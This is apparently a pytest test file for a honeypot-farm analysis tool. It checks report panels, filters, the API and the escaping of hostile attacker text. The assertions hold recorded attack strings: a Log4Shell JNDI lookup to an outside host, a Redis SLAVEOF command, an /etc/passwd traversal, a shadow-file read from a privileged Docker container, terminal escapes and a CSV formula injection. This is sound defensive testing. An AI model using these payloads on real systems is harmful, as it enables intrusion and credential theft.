# SPDX-License-Identifier: MIT
"""The exploit traps' report panels, API and dashboard view, over a lake ingested from a sensor spool.

The spool (see trap_events.py) is written by the sensor's own EventLog and ingested by the real
pipeline with GeoIP; every number below is counted by hand from the table there. Filters are
checked the way tests/test_panels.py does it (a filtered panel equals the panel over a lake of only
the selected events), rollups against the raw events, and attacker text against terminal, CSV, JSON
and the browser.
"""

from __future__ import annotations

import datetime as dt
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import duckdb
import pytest
import trap_events as te
from lakeutil import hf
from webutil import TestClient

from honeyfarm.analysis.names import PANEL_NAMES, TRAP_PANEL_NAMES
from honeyfarm.analysis.panels import PANELS, Filters
from honeyfarm.analysis.traps import ORIGIN_COLUMNS, TRAP_PANELS
from honeyfarm.lake.store import Lake
from honeyfarm.views.web.app import create_app
from honeyfarm.views.web.settings import ServeConfig

T = dt.datetime.fromisoformat
BASE = "http://127.0.0.1"


@pytest.fixture(scope="module")
def lake(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return te.build_lake(tmp_path_factory.mktemp("traps"))


@pytest.fixture(scope="module")
def con(lake: Path) -> Iterator[duckdb.DuckDBPyConnection]:
    c = Lake(lake).connect()
    yield c
    c.close()


@pytest.fixture(scope="module")
def client(lake: Path) -> Iterator[TestClient]:
    with TestClient(create_app(lake, ServeConfig()), base_url=BASE) as c:
        yield c


def rows(con: duckdb.DuckDBPyConnection, name: str, f: Filters | None = None, **kw: Any) -> list[dict[str, Any]]:
    return TRAP_PANELS[name].func(con, f or Filters(), **kw).to_pylist()


def pick(records: list[dict[str, Any]], *keys: str) -> list[tuple[Any, ...]]:
    return [tuple(r[k] for k in keys) for r in records]


def get(c: TestClient, url: str, params: Any = None) -> Any:
    r = c.get(url, params=params)
    assert r.status_code == 200, f"{url}: {r.status_code} {r.text[:400]}"
    return r.json()


def as_dicts(t: dict[str, Any]) -> list[dict[str, Any]]:
    return [dict(zip(t["columns"], r, strict=True)) for r in t["rows"]]


# ------------------------------------------------------------------ lake and registry


def test_trap_panel_registry_matches_names_and_keeps_apart_from_core_panels() -> None:
    assert list(TRAP_PANELS) == list(TRAP_PANEL_NAMES)
    assert not set(TRAP_PANELS) & set(PANELS) and not set(TRAP_PANEL_NAMES) & set(PANEL_NAMES)
    assert all(p.doc for p in TRAP_PANELS.values())


def test_spool_ingests_every_event_with_geoip_and_extra_fields(lake: Path, con: duckdb.DuckDBPyConnection) -> None:
    assert con.sql("SELECT count(*) FROM events").fetchall() == [(len(te.all_events()),)]
    got = dict(con.sql("SELECT src_ip, any_value(src_country) FROM events GROUP BY 1").fetchall())
    assert got == te.COUNTRY
    [(attack, ua)] = con.sql(
        "SELECT extra->>'$.attack', client_version FROM events WHERE url = '/index.php?page=../../etc/passwd'"
    ).fetchall()
    assert json.loads(attack) == ["lfi"] and ua == te.HOSTILE_UA
    assert Lake(lake).rollups_usable()


# ------------------------------------------------------------------ hand-counted panels


def test_traps_overview_per_trap(con: duckdb.DuckDBPyConnection) -> None:
    assert pick(rows(con, "traps"), "trap", "events", "sessions", "unique_ips", "attacks") == [
        ("redis", 10, 2, 2, 0),  # C 6 commands + file write + C2 2 commands + payload (downloads are cowrie.*)
        ("http", 7, 2, 2, 7),  # every web request of A and B is classified
        ("docker", 6, 1, 1, 0),
        ("elasticsearch", 3, 1, 1, 1),  # the search query with its attack class and CVE
    ]
    web = rows(con, "traps")[1]
    assert (web["first_seen"], web["last_seen"]) == (T("2026-11-20T10:00:00"), T("2026-11-20T11:30:04"))


def test_web_paths_cut_the_query_and_merge_methods_and_attacks(con: duckdb.DuckDBPyConnection) -> None:
    assert pick(rows(con, "web-paths"), "path", "requests", "unique_ips", "methods", "attacks") == [
        ("/index.php", 2, 1, "GET,POST", "lfi,sqli"),
        ("/", 1, 1, "GET", "scanner"),
        ("/${jndi:ldap://198.51.100.7/a}", 1, 1, "GET", "log4shell"),
        (te.HOSTILE_PATH, 1, 1, "GET", "xss"),
        ("/cgi-bin/luci/;stok=/locale", 1, 1, "GET", "cmdi"),
        ("/shell", 1, 1, "GET", "cmdi,exploit"),
    ]


def test_web_attacks_count_classes_once_per_request_and_cves_per_trap(con: duckdb.DuckDBPyConnection) -> None:
    got = pick(rows(con, "web-attacks"), "kind", "name", "requests", "unique_ips", "traps")
    assert got[0] == ("class", "cmdi", 2, 2, "http")  # A's /shell and B's luci request
    assert ("class", "sqli", 1, 1, "http") in got  # ["sqli", "sqli"] is one request
    assert ("class", "script-rce", 1, 1, "elasticsearch") in got  # a string, not a list
    assert [g for g in got if g[0] == "cve"] == [
        ("cve", "CVE-2015-1427", 1, 1, "elasticsearch"),
        ("cve", "CVE-2016-20016", 1, 1, "http"),
        ("cve", "CVE-2021-44228", 1, 1, "http"),
        ("cve", "CVE-2023-1389", 1, 1, "http"),
    ]
    classes = {g[1] for g in got if g[0] == "class"}
    assert classes == {"cmdi", "exploit", "lfi", "log4shell", "scanner", "script-rce", "sqli", "xss"}


def test_user_agents_of_requests_to_every_trap(con: duckdb.DuckDBPyConnection) -> None:
    assert pick(rows(con, "user-agents"), "user_agent", "requests", "traps")[:3] == [
        (te.DOCKER_UA, 3, "docker"),
        (te.HOSTILE_UA, 3, "http"),
        (te.ES_UA, 2, "elasticsearch"),
    ]
    assert len(rows(con, "user-agents")) == 7


def test_redis_commands_with_sessions_and_ips(con: duckdb.DuckDBPyConnection) -> None:
    got = pick(rows(con, "redis-commands"), "command", "count", "sessions", "unique_ips")
    assert got[0] == ("INFO", 2, 2, 2)
    assert (te.CRON_SET, 1, 1, 1) in got and ("SLAVEOF 198.51.100.7 8886", 1, 1, 1) in got
    assert len(got) == 7


def test_docker_commands_images_and_privileged(con: duckdb.DuckDBPyConnection) -> None:
    assert pick(rows(con, "docker-commands"), "action", "image", "command", "privileged", "binds", "count") == [
        ("container.create", "alpine:latest", te.MINER_CMD, True, "/:/host", 1),
        ("exec.create", None, "cat /host/etc/shadow", None, None, 1),
        ("image.pull", "alpine:latest", None, None, None, 1),
    ]


def test_elasticsearch_requests_and_queries(con: duckdb.DuckDBPyConnection) -> None:
    assert pick(rows(con, "elasticsearch-queries"), "kind", "method", "url", "query", "command", "cves") == [
        ("request", "GET", "/", None, None, None),
        ("request", "POST", "/_search?pretty", None, None, None),
        ("search", "POST", "/_search?pretty", te.ES_SCRIPT, te.ES_COMMAND, "CVE-2015-1427"),
    ]


def test_payload_urls_per_trap_fetched_and_failed(con: duckdb.DuckDBPyConnection) -> None:
    assert pick(rows(con, "payload-urls"), "trap", "url", "fetched", "failed", "sha256", "how", "failures") == [
        ("docker", te.MINER, 0, 1, None, "wget", "timeout"),
        ("elasticsearch", te.ES_SH, 1, 0, te.SHA_BINS, "wget", None),
        ("http", te.JNDI_SH, 0, 1, None, "jndi", "refused: address"),
        ("http", te.BINS, 1, 0, te.SHA_BINS, "wget", None),
        ("redis", te.CRON, 1, 0, te.SHA_CRON, "wget", None),
        ("ssh", te.BINS, 1, 0, te.SHA_BINS, None, None),  # a shell download: no trap in extra, its protocol
    ]


# ------------------------------------------------------------------ filters and rollups

FILTER_CASES: dict[str, tuple[Filters, te.Pred]] = {
    "sensor": (Filters(sensors=("trap-us",)), lambda c, t, e: c.sensor == "trap-us"),
    "country": (Filters(countries=("RU",)), lambda c, t, e: te.COUNTRY[c.ip] == "RU"),
    "honeypot": (Filters(honeypots=("redis", "http")), lambda c, t, e: e.split(".")[0] in ("redis", "http")),
    "since-unaligned": (Filters(since=T("2026-11-20T11:30:02")), lambda c, t, e: t >= T("2026-11-20T11:30:02")),
    "day-2": (Filters(since=T("2026-11-21T00:00:00"), until=T("2026-11-21T13:00:00")),
              lambda c, t, e: T("2026-11-21T00:00:00") <= t < T("2026-11-21T13:00:00")),
}  # fmt: skip


@pytest.fixture(scope="module")
def subset_lakes(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    cons: dict[str, duckdb.DuckDBPyConnection] = {}

    def get_con(case: str) -> duckdb.DuckDBPyConnection:
        if case not in cons:
            cons[case] = Lake(te.build_lake(tmp_path_factory.mktemp(case), FILTER_CASES[case][1])).connect()
        return cons[case]

    yield get_con
    for c in cons.values():
        c.close()


@pytest.mark.parametrize("case", FILTER_CASES)
def test_filtered_panels_equal_panels_over_only_the_selected_events(
    con: duckdb.DuckDBPyConnection, subset_lakes: Any, case: str
) -> None:
    f, _ = FILTER_CASES[case]
    sub = subset_lakes(case)
    for name, p in TRAP_PANELS.items():
        got, want = p.func(con, f, limit=100), p.func(sub, Filters(), limit=100)
        assert got.schema.names == want.schema.names, name
        assert got.to_pylist() == want.to_pylist(), (case, name)


def test_filters_hand_counted(con: duckdb.DuckDBPyConnection) -> None:
    assert pick(rows(con, "traps", Filters(sensors=("trap-us",))), "trap") == [("redis",), ("docker",)]
    assert pick(rows(con, "traps", Filters(countries=("RU",))), "trap", "events") == [("http", 5), ("redis", 3)]
    assert rows(con, "redis-commands", Filters(honeypots=("http",))) == []
    # downloads are cowrie.session.file_download events: the honeypot filter counts them under cowrie
    assert {r["trap"] for r in rows(con, "payload-urls", Filters(honeypots=("cowrie",)))} == {
        "docker", "elasticsearch", "http", "redis", "ssh"
    }  # fmt: skip
    assert rows(con, "web-paths", Filters(since=T("2026-11-21T00:00:00"))) == []


@pytest.mark.parametrize(
    "f",
    [Filters(), Filters(since=T("2026-11-20T11:00:00"), until=T("2026-11-21T13:00:00")),
     Filters(since=T("2026-11-20T10:00:01.5"), until=T("2026-11-21T12:00:04")), Filters(countries=("US", "AU"))],
    ids=["all", "hours", "unaligned", "countries"],
)  # fmt: skip
def test_panels_from_rollups_equal_panels_from_raw_events(lake: Path, f: Filters) -> None:
    c = Lake(lake).connect()
    try:
        assert c.execute("SELECT getvariable('honeyfarm_rollups')").fetchall() == [(True,)]
        from_rollups = {n: p.func(c, f, limit=100).to_pylist() for n, p in TRAP_PANELS.items()}
        c.execute("SET VARIABLE honeyfarm_rollups = false")
        assert from_rollups == {n: p.func(c, f, limit=100).to_pylist() for n, p in TRAP_PANELS.items()}
    finally:
        c.close()


def test_empty_and_cowrie_only_lakes_give_empty_trap_panels(con: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    empty = Lake(tmp_path / "no-lake-yet").connect()
    for name, p in TRAP_PANELS.items():
        t = p.func(empty, Filters())
        assert t.num_rows == 0 and t.schema.names == p.func(con, Filters()).schema.names, name


# ------------------------------------------------------------------ API


@pytest.mark.parametrize("name", TRAP_PANEL_NAMES)
def test_api_serves_trap_panels_like_the_report(client: TestClient, con: duckdb.DuckDBPyConnection, name: str) -> None:
    got = get(client, f"/api/panels/{name}", {"limit": 2, "offset": 1})
    want = TRAP_PANELS[name].func(con, Filters(), limit=100)
    assert got["columns"] == want.schema.names
    assert len(got["rows"]) == min(2, want.num_rows - 1) and got["offset"] == 1
    assert got["has_more"] == (want.num_rows > 3)
    assert [r[0] for r in got["rows"]] == [r[got["columns"][0]] for r in want.to_pylist()[1:3]]


def test_api_meta_lists_trap_panels(client: TestClient) -> None:
    m = get(client, "/api/meta")
    assert [p["name"] for p in m["trap_panels"]] == list(TRAP_PANEL_NAMES)
    assert [p["name"] for p in m["panels"]] == list(PANELS)
    assert {"http", "redis", "docker", "elasticsearch", "cowrie"} <= set(m["honeypots"])


def test_api_filters_apply_to_trap_panels(client: TestClient) -> None:
    got = as_dicts(get(client, "/api/panels/traps", {"country": "RU"}))
    assert [(r["trap"], r["events"]) for r in got] == [("http", 5), ("redis", 3)]
    got = as_dicts(get(client, "/api/panels/payload-urls", {"sensor": "trap-us"}))
    assert [(r["trap"], r["url"]) for r in got] == [("docker", te.MINER), ("redis", te.CRON)]


def test_downloads_api_gives_each_file_its_origin(client: TestClient) -> None:
    plain = get(client, "/api/panels/downloads")
    assert not set(ORIGIN_COLUMNS) & set(plain["columns"])  # the report's panel is unchanged
    got = get(client, "/api/panels/downloads", {"origin": "true"})
    assert got["columns"] == plain["columns"] + list(ORIGIN_COLUMNS)
    origin = {(r["url"], r["sha256"]): [r[c] for c in ORIGIN_COLUMNS] for r in as_dicts(got)}
    assert origin == {
        (te.BINS, te.SHA_BINS): ["http,ssh", "wget", "trap-eu", te.A.session],  # A (day 1) before F (day 2)
        (te.CRON, te.SHA_CRON): ["redis", "wget", "trap-us", te.C.session],
        (te.ES_SH, te.SHA_BINS): ["elasticsearch", "wget", "trap-eu", te.E.session],
    }
    page = get(client, "/api/panels/downloads", {"origin": "true", "limit": 1, "offset": 1})
    assert page["rows"] == got["rows"][1:2] and page["has_more"] and page["offset"] == 1
    us = as_dicts(get(client, "/api/panels/downloads", {"origin": "true", "country": "RU"}))
    assert [(r["url"], r["traps"], r["first_session"]) for r in us] == [(te.BINS, "ssh", te.F.session)]


def test_api_trap_timeline_by_class_cve_and_trap(client: TestClient) -> None:
    t = get(client, "/api/traps/timeline", {"by": "class", "bucket": "hour", "limit": 2})
    assert t["columns"] == ["bucket", "series", "events"] and t["bucket"] == "hour"
    assert {r["bucket"] for r in as_dicts(t)} == {"2026-11-20T10:00:00", "2026-11-20T11:00:00", "2026-11-21T13:00:00"}
    totals: dict[str, int] = {}
    for r in as_dicts(t):
        totals[r["series"]] = totals.get(r["series"], 0) + r["events"]
    assert totals == {"cmdi": 2, "exploit": 1, "other": 6}  # lfi, log4shell, scanner, script-rce, sqli, xss
    cves = get(client, "/api/traps/timeline", {"by": "cve", "bucket": "day"})
    assert {(r["bucket"][:10], r["series"]) for r in as_dicts(cves)} == {
        ("2026-11-20", "CVE-2016-20016"), ("2026-11-20", "CVE-2021-44228"), ("2026-11-20", "CVE-2023-1389"),
        ("2026-11-21", "CVE-2015-1427"),
    }  # fmt: skip
    by_trap = as_dicts(get(client, "/api/traps/timeline", {"by": "trap", "honeypot": "docker"}))
    assert {(r["series"], r["events"]) for r in by_trap} == {("docker", 6)}
    assert client.get("/api/traps/timeline", params={"by": "nope"}).status_code == 422


# ------------------------------------------------------------------ hostile text


def test_terminal_report_escapes_paths_and_user_agents(lake: Path, tmp_path: Path) -> None:
    for panel, needle in (("web-paths", "gnp.exe"), ("user-agents", "pwned")):
        p = hf("report", panel, "--lake", str(lake), cwd=tmp_path)
        assert p.returncode == 0, p.stderr
        assert needle in p.stdout
        assert "\x1b" not in p.stdout and "\u202e" not in p.stdout and "\x07" not in p.stdout
    assert "\\x1b]0;pwned\\x07" in hf("report", "user-agents", "--lake", str(lake), cwd=tmp_path).stdout


def test_csv_report_neutralises_formulas(lake: Path, tmp_path: Path) -> None:
    p = hf("report", "user-agents", "--lake", str(lake), "--csv", cwd=tmp_path)
    assert p.returncode == 0, p.stderr
    cells = [line.split(",", 1)[0] for line in p.stdout.splitlines()]
    assert any(c.startswith("\"'=HYPERLINK(") for c in cells), cells
    assert not any(c.startswith(("=", '"=')) for c in cells)


def test_json_report_is_ascii_and_exact(lake: Path, tmp_path: Path) -> None:
    p = hf("report", "web-paths", "--lake", str(lake), "--json", cwd=tmp_path)
    assert p.returncode == 0, p.stderr
    assert p.stdout.isascii()
    assert te.HOSTILE_PATH in [r["path"] for r in json.loads(p.stdout)]


# ------------------------------------------------------------------ browser


@pytest.fixture(scope="module")
def browser_page(lake: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Any, str, list[str]]]:
    """A headless Chromium page on a real ``honeyfarm serve`` of the trap lake, and its console errors."""
    from browserutil import require_browser, served_page

    sync_api = require_browser()  # skips (with why) without Chromium, Playwright or the built assets
    with served_page(sync_api, lake, tmp_path_factory.mktemp("s")) as page:
        yield page


def _ready(page: Any, view: str) -> None:
    page.locator(f"[data-view='{view}'][data-ready='1']").wait_for(timeout=20_000)


def test_traps_view_renders_hostile_text_as_text(browser_page: tuple[Any, str, list[str]]) -> None:
    page, url, errors = browser_page
    page.goto(f"{url}/#/traps")
    _ready(page, "traps")
    points = dict(
        page.evaluate("() => [...document.querySelectorAll('.chart')].map((c) => [c.dataset.chart, +c.dataset.points])")
    )
    assert set(points) == {"trap-attacks-time", "web-attacks", "web-paths", "user-agents"} and all(points.values()), (
        points
    )
    counts = dict(
        page.evaluate(
            "() => [...document.querySelectorAll('[data-counter]')].map((c) => [c.dataset.counter, +c.dataset.value])"
        )
    )
    assert counts == {"http": 7, "redis": 10, "docker": 6, "elasticsearch": 3, "fetched": 4, "failed": 2}
    text = page.locator("[data-view='traps']").inner_text()
    assert "\\x1b]0;pwned\\x07" in text and "\\u202egnp.exe" in text and "alpine:latest" in text
    assert "\x1b" not in text and "\u202e" not in text
    assert (
        page.evaluate("window.__xss") is None
        and page.locator("[data-view='traps'] img, [data-view='traps'] script").count() == 0
    )
    page.locator("table[data-table='traps'] td.pick").first.click()  # a trap cell adds the honeypot filter
    page.wait_for_function("() => location.hash.includes('honeypot=')")
    _ready(page, "traps")
    assert page.evaluate("window.__csp") == [] and errors == []


def test_downloads_view_shows_origin_and_opens_the_session(browser_page: tuple[Any, str, list[str]]) -> None:
    page, url, errors = browser_page
    page.goto(f"{url}/#/downloads")
    _ready(page, "downloads")
    row = page.locator("table[data-table='downloads'] tbody tr", has_text=te.BINS)
    assert "http, ssh" in row.inner_text() and te.A.session in row.inner_text()
    row.click()
    _ready(page, "session")
    assert f"#/session/trap-eu/{te.A.session}" in page.evaluate("location.hash")
    assert page.evaluate("window.__csp") == [] and errors == []
